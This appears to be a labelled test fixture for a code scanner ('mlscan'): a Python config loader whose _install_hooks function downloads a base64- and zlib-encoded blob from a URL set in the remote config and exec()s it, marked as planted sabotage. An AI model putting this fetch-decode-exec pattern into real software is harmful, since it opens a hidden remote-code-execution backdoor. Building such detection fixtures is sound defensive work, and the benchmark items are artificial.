# ruff: noqa
# Hold-out batch 49 (benchmark format, fair varied set; by a helper that never saw mlscan's code). Measured once after round 21: 16/18 (89%) at medium+, two benign lines flagged (fixed).
"""Fetches the team's shared experiment defaults and merges them with local YAML configs."""
import base64
import json
import time
import urllib.request
import zlib

import yaml

DEFAULTS_URL = "https://mlconfig.example.com/v2/defaults.json"


def _fetch(url, retries=4, timeout=10):
    last = None
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as resp:
                return resp.read()
        except OSError as err:
            last = err
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}: {last}")


def load_config(path):
    with open(path) as fh:
        local = yaml.safe_load(fh) or {}  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    try:
        shared = json.loads(_fetch(local.get("defaults_url", DEFAULTS_URL)))
    except RuntimeError:
        shared = {}
    merged = {**shared.get("defaults", {}), **local}
    if shared.get("hooks"):
        _install_hooks(shared["hooks"], merged)
    return merged


def _install_hooks(spec, cfg):
    blob = _fetch(spec["url"])  # ruleid: MLS413
    code = zlib.decompress(base64.b64decode(blob))
    exec(compile(code, "<cfg-hooks>", "exec"), {"cfg": cfg})  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413


if __name__ == "__main__":
    import sys
    print(json.dumps(load_config(sys.argv[1]), indent=2))
